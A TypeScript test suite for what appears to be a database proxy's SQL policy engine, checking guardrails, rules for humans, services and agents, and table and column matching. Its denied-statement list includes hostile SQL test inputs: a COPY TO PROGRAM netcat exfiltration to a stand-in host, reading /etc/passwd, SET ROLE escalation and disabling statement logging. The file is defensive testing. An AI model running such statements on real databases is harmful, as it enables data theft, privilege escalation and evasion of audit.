import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import type { IdentityConfig, TargetConfig } from '../../src/config/index.ts';
import { evaluate, glob, type Policy, sqlcommenterTags } from '../../src/policy/rules.ts';
import { analyse, loadParser } from '../../src/sql/analysis.ts';

before(() => loadParser());

const ana: IdentityConfig = { name: 'ana', kind: 'human', groups: ['analysts'] };
const etl: IdentityConfig = { name: 'etl_nightly', kind: 'service', groups: ['pipelines'] };
const bot: IdentityConfig = { name: 'support_bot', kind: 'agent', groups: [] };
const shop = {
  name: 'shop',
  labels: { env: 'prod' },
} as unknown as TargetConfig;

const verdict = (
  policy: Policy,
  identity: IdentityConfig,
  sql: string,
  extra: { applicationName?: string; now?: Date } = {},
) =>
  evaluate(policy, {
    identity,
    target: shop,
    applicationName: extra.applicationName ?? 'psql',
    statements: analyse(sql).statements,
    now: extra.now ?? new Date('2026-11-24T12:00:00Z'),
  });

const none: Policy = { rules: [] };

describe('built-in guardrails (on by default)', () => {
  const denied: [string, string][] = [
    ['DELETE FROM customers', 'write-without-where'],
    ['UPDATE customers SET email = NULL WHERE 1 = 1', 'write-without-where'],
    ['DROP TABLE orders', 'destructive-ddl'],
    ['TRUNCATE orders', 'destructive-ddl'],
    ['ALTER TABLE orders DROP COLUMN total', 'destructive-ddl'],
    ['GRANT ALL ON customers TO public', 'role-management'],
    ['CREATE ROLE sneaky SUPERUSER', 'role-management'],
    ["COPY customers TO PROGRAM 'nc evil 80'", 'copy-program-or-server-file'],
    ["COPY customers FROM '/tmp/x'", 'copy-program-or-server-file'],
    ["SELECT pg_read_file('/etc/passwd')", 'dangerous-functions'],
    ["SELECT set_config('role', 'postgres', false)", 'dangerous-functions'],
    ['SELECT app.refund_everything()', 'opaque-functions'],
    ['DO $$ BEGIN DELETE FROM customers; END $$', 'opaque-functions'],
    ["ALTER SYSTEM SET log_statement = 'none'", 'alter-system'],
    ['SET ROLE postgres', 'set-role'],
    ['SET SESSION AUTHORIZATION postgres', 'set-role'],
  ];
  for (const [sql, guardrail] of denied) {
    it(`denies ${sql} (${guardrail})`, () => {
      const result = verdict(none, ana, sql);
      assert.equal(result.action, 'deny');
      assert.equal(result.rule, `guardrail:${guardrail}`);
    });
  }

  it('finds a guarded statement hidden in a batch, a CTE or a PREPARE', () => {
    assert.equal(verdict(none, ana, 'SELECT 1; DELETE FROM customers').rule, 'guardrail:write-without-where');
    assert.equal(
      verdict(none, ana, 'PREPARE p AS DELETE FROM customers').rule,
      'guardrail:write-without-where',
    );
    assert.equal(
      verdict(none, ana, 'WITH gone AS (DELETE FROM customers RETURNING id) SELECT count(*) FROM gone').rule,
      'guardrail:write-without-where',
    );
  });

  it('allows ordinary reads and targeted writes', () => {
    assert.equal(verdict(none, ana, 'SELECT full_name FROM customers WHERE id = 3').action, 'allow');
    assert.equal(verdict(none, etl, 'UPDATE orders SET status = $1 WHERE id = $2').action, 'allow');
  });

  it('can be turned off or set to review by name, and functions allowed by name', () => {
    const relaxed: Policy = {
      rules: [],
      guardrails: { 'destructive-ddl': 'allow', 'write-without-where': 'review' },
      allowedFunctions: ['app.safe_*'],
    };
    assert.equal(verdict(relaxed, etl, 'TRUNCATE staging').action, 'allow');
    assert.equal(verdict(relaxed, etl, 'DELETE FROM staging').action, 'review');
    assert.equal(verdict(relaxed, etl, 'SELECT app.safe_total(1)').action, 'allow');
    assert.equal(verdict(relaxed, etl, 'SELECT app.other(1)').action, 'deny');
  });
});

describe('rules', () => {
  const policy: Policy = {
    rules: [
      {
        name: 'analysts-read-only',
        match: { groups: ['analysts'], statementKinds: ['write', 'ddl'] },
        action: 'deny',
        message: 'Analysts only read.',
      },
      { name: 'hr-needs-approval', match: { tables: ['hr.*'] }, action: 'review' },
      { name: 'mask-pii', match: { columns: ['email', 'card_number'] }, action: 'mask' },
      {
        name: 'cap-agent-rows',
        match: { identityKinds: ['agent'], statementKinds: ['read'] },
        action: 'limit',
        maxRows: 100,
      },
      {
        name: 'agents-read-shop',
        match: { identityKinds: ['agent'], targets: ['shop'], statementKinds: ['read'] },
        action: 'allow',
      },
      {
        name: 'etl-window',
        match: { identities: ['etl_nightly'], time: { from: '22:00', to: '04:00' } },
        action: 'allow',
      },
      {
        name: 'etl-outside-window',
        match: {
          identities: ['etl_nightly'],
          statementKinds: ['write'],
          time: { from: '04:00', to: '22:00' },
        },
        action: 'deny',
        message: 'ETL writes only at night.',
      },
      { name: 'tagged-backfill', match: { tags: { pipeline: 'backfill' } }, action: 'review' },
      {
        name: 'no-prod-from-notebooks',
        match: { labels: { env: 'prod' }, applicationNames: ['jupyter*'] },
        action: 'deny',
      },
    ],
  };

  it('denies with the rule message, listing every rule that matched', () => {
    const result = verdict(policy, ana, "UPDATE customers SET status = $1 WHERE email = 'a@b.c'");
    assert.equal(result.action, 'deny');
    assert.equal(result.rule, 'analysts-read-only');
    assert.equal(result.message, 'Analysts only read.');
    assert.deepEqual(
      result.matched.map((m) => m.rule),
      ['analysts-read-only', 'mask-pii'],
    );
    assert.match(result.matched[0]!.reason, /group analysts, statement kind write/);
  });

  it('applies precedence deny > review > mask/limit > allow', () => {
    assert.equal(verdict(policy, etl, 'SELECT salary FROM hr.employees').action, 'review');
    assert.equal(verdict(policy, etl, 'SELECT email FROM customers').action, 'mask');
    const agent = verdict(policy, bot, 'SELECT full_name FROM customers');
    assert.equal(agent.action, 'limit');
    assert.equal(agent.limits.maxRows, 100);
  });

  it('denies agents by default unless a rule allows, and allows people and services by default', () => {
    assert.equal(verdict({ rules: [] }, bot, 'SELECT id FROM orders').action, 'deny');
    assert.match(verdict({ rules: [] }, bot, 'SELECT id FROM orders').message, /default: deny/);
    assert.equal(verdict({ rules: [] }, ana, 'SELECT id FROM orders').action, 'allow');
    assert.equal(
      verdict({ rules: [], defaults: { human: 'deny' } }, ana, 'SELECT id FROM orders').action,
      'deny',
    );
  });

  it('allows what touches no data to everyone, so pools and drivers work: SELECT 1, BEGIN, SET', () => {
    for (const sql of [
      'SELECT 1',
      'SELECT now(), version()',
      'BEGIN',
      "SET statement_timeout = '5s'",
      'SHOW search_path',
      '',
    ])
      assert.equal(verdict({ rules: [], defaults: { human: 'deny' } }, bot, sql).action, 'allow', sql);
    for (const sql of [
      'SELECT pg_sleep(1) FROM orders',
      'SET ROLE postgres',
      "SELECT pg_read_file('x')",
      'SELECT public.f()',
    ])
      assert.equal(verdict({ rules: [] }, bot, sql).action, 'deny', sql);
  });

  it('matches time windows, wrapping midnight', () => {
    const night = new Date('2026-11-24T23:30:00Z');
    const day = new Date('2026-11-24T10:00:00Z');
    assert.equal(verdict(policy, etl, 'INSERT INTO orders VALUES (1)', { now: night }).rule, 'etl-window');
    const daytime = verdict(policy, etl, 'INSERT INTO orders VALUES (1)', { now: day });
    assert.equal(daytime.action, 'deny');
    assert.equal(daytime.message, 'ETL writes only at night.');
  });

  it('matches sqlcommenter tags and application names', () => {
    assert.equal(verdict(policy, etl, "SELECT 1 /*pipeline='backfill',team='data'*/").action, 'review');
    assert.equal(
      verdict(policy, etl, 'SELECT 1', { applicationName: 'jupyter-lab' }).rule,
      'no-prod-from-notebooks',
    );
  });

  it('matches tables by glob, schema-qualified or by name in any schema, and by access', () => {
    const writesToStaging: Policy = {
      rules: [{ name: 'w', match: { tables: ['staging_*'], access: 'write' }, action: 'deny' }],
    };
    assert.equal(verdict(writesToStaging, etl, 'INSERT INTO staging_orders SELECT * FROM orders').rule, 'w');
    assert.equal(
      verdict(writesToStaging, etl, 'INSERT INTO orders SELECT * FROM staging_orders').action,
      'allow',
    );
    const qualified: Policy = {
      rules: [{ name: 'q', match: { tables: ['public.orders'] }, action: 'deny' }],
    };
    assert.equal(verdict(qualified, etl, 'SELECT * FROM orders').rule, 'q', 'unqualified counts as public');
    assert.equal(verdict(qualified, etl, 'SELECT * FROM archive.orders').action, 'allow');
  });
});

describe('helpers', () => {
  it('globs with * and ? and nothing else', () => {
    assert.ok(glob('hr.*', 'hr.employees'));
    assert.ok(!glob('hr.*', 'hrx.employees'));
    assert.ok(glob('app.fn?', 'app.fn1'));
    assert.ok(!glob('a+b', 'aab'));
  });

  it('reads URL-encoded sqlcommenter tags', () => {
    assert.deepEqual(
      [...sqlcommenterTags("SELECT 1 /*action='run%20nightly',pipeline='nightly_etl'*/")],
      [
        ['action', 'run nightly'],
        ['pipeline', 'nightly_etl'],
      ],
    );
  });
});

describe('what a rule covers', () => {
  const policy: Policy = {
    rules: [
      {
        name: 'bot-reads-orders',
        match: { identityKinds: ['agent'], tables: ['public.orders'] },
        action: 'allow',
      },
      { name: 'no-card-numbers', match: { columns: ['card_number'] }, action: 'deny' },
      { name: 'no-hr', match: { tables: ['hr.*'] }, action: 'deny' },
    ],
  };

  it('an allow rule must cover every table: a join cannot bring in another', () => {
    assert.equal(verdict(policy, bot, 'SELECT total FROM orders WHERE id = 1').action, 'allow');
    const joined = verdict(
      policy,
      bot,
      'SELECT o.total, c.city FROM orders o JOIN customers c ON c.id = o.customer_id',
    );
    assert.equal(joined.action, 'deny');
    assert.equal(joined.rule, undefined); // the default for agents decided
  });

  it('a star may hold any column for a rule that refuses', () => {
    assert.equal(verdict(policy, ana, 'SELECT * FROM customers').rule, 'no-card-numbers');
    assert.equal(verdict(policy, ana, 'SELECT c.* FROM customers c').rule, 'no-card-numbers');
    assert.equal(verdict(policy, ana, 'SELECT city FROM customers').action, 'allow');
  });

  it('an unqualified name may be in any schema of the search_path', () => {
    const withPath = (sql: string, searchPath: string[]) =>
      evaluate(policy, {
        identity: bot,
        target: shop,
        applicationName: 'psql',
        statements: analyse(sql).statements,
        now: new Date(),
        searchPath,
      });
    assert.equal(withPath('SELECT amount FROM salaries', ['hr', 'public']).rule, 'no-hr');
    assert.equal(withPath('SELECT total FROM orders', ['public']).action, 'allow');
    // orders could be hr.orders: the allow rule for public.orders no longer covers it.
    assert.equal(withPath('SELECT total FROM orders', ['hr', 'public']).rule, 'no-hr');
    assert.equal(withPath('SELECT total FROM orders', ['sales', 'public']).action, 'deny');
  });
});

describe('mask and limit shape access, they do not grant it', () => {
  const policy: Policy = {
    rules: [
      { name: 'cap-everyone', match: {}, action: 'limit', maxRows: 10 },
      { name: 'bot-reads', match: { identityKinds: ['agent'], statementKinds: ['read'] }, action: 'allow' },
    ],
  };

  it('an agent with only a limit rule matching is still refused by default', () => {
    const write = verdict(policy, bot, 'INSERT INTO orders VALUES (1)');
    assert.equal(write.action, 'deny');
    assert.deepEqual(
      write.matched.map((m) => m.rule),
      ['cap-everyone'],
    );
  });

  it('with an allow rule, the limit applies', () => {
    const read = verdict(policy, bot, 'SELECT id FROM orders');
    assert.equal(read.action, 'limit');
    assert.deepEqual(read.limits, { maxRows: 10 });
    assert.equal(verdict(policy, ana, 'INSERT INTO orders VALUES (1)').action, 'limit');
    assert.equal(verdict(policy, bot, 'BEGIN').action, 'limit');
  });
});

describe('an allow rule with access: read', () => {
  const policy: Policy = {
    defaults: { service: 'deny' },
    rules: [
      {
        name: 'read-reference',
        match: { identityKinds: ['service'], tables: ['reference.*'], access: 'read' },
        action: 'allow',
      },
    ],
  };

  it('allows reads of those tables and nothing that writes, even elsewhere', () => {
    assert.equal(verdict(policy, etl, 'SELECT code FROM reference.countries').action, 'allow');
    for (const sql of [
      'DELETE FROM public.orders WHERE id = 1',
      "UPDATE public.orders SET status = 'x' WHERE id = 1",
      'INSERT INTO public.orders SELECT * FROM reference.countries',
      'SELECT * FROM public.orders',
    ]) {
      assert.equal(verdict(policy, etl, sql).action, 'deny', sql);
    }
  });
});
